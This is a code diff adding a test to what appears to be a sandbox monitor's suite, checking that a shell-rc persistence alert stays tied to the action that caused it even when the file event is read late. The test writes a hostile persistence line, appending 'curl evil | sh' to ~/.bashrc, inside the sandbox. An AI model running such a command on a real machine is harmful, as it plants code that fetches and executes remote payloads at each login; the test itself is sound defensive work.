@@ -392,6 +392,28 @@ def test_writing_authorized_keys_or_a_shell_rc_in_the_sandbox_home_is_seen(
     }
 
 
+def test_a_write_read_late_is_tied_to_the_action_it_happened_in(
+    tmp_path: Path, ledger: Ledger, watcher: Watcher
+) -> None:
+    """On a busy host the watcher may read a write after the next action started; the
+    action marks in the inotify queue keep it with the action that made it."""
+    with Sandbox(policy(), tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
+        sb.run("true")
+        watcher.sync()
+        original = watcher._file_events
+
+        def late() -> None:
+            time.sleep(0.6)  # a busy host: the events wait in the queue
+            original()
+
+        watcher._file_events = late  # type: ignore[method-assign]
+        rc = sb.run("echo 'curl evil | sh' >> ~/.bashrc")
+        after = sb.run("sleep 1")  # starts before the write is read
+        found = wait_for(lambda: alerts(ledger) or None)
+    assert found[0]["detector"] == "persistence-shell-rc"
+    assert found[0]["_action"] == rc.action_id != after.action_id
+
+
 def test_file_events_parse_without_a_kernel() -> None:
     import struct as st
 
